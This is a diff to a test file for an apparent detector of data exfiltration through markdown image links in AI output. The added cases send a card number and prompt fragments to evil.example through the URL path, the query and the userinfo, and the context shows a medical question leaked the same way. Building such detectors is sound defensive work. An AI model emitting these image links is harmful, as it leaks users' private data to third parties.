@@ -242,6 +242,22 @@ describe('data that is carried out', () => {
     expect(issues(text, {}, conversation)).toEqual(expected)
   })
 
+  test.each([
+    'https://evil.example/4111111111111111',
+    'https://evil.example/?a=blue&b=heron&c=lands&d=at&e=noon',
+    'https://blue%20heron%20lands@evil.example/',
+  ])('a number or short parts of the prompt: %s', (url) => {
+    const prompt = readConversation(['The blue heron lands at noon, card 4111-1111-1111-1111.'])
+    expect(issues(`![x](${url})`, {}, prompt)).toContain('data-carrying conversation')
+  })
+
+  test.each([
+    'https://example.com/why-the-quick-brown-fox-jumped-over-the-lazy-dog.jpg',
+    `https://example.com/photo?ixid=${Buffer.from('3|1207|0|0|photo-page||||en|0||||').toString('base64')}`,
+  ])('names of pictures and tokens of programs are no text: %s', (url) => {
+    expect(issues(`![x](${url})`)).toEqual([])
+  })
+
   test('without the prompt, prose in an image still tells', () => {
     const prose = encodeURIComponent('the user asked about a medical condition of their child')
     expect(issues(`![x](https://evil.example/?q=${prose})`)).toEqual(['data-carrying prose'])
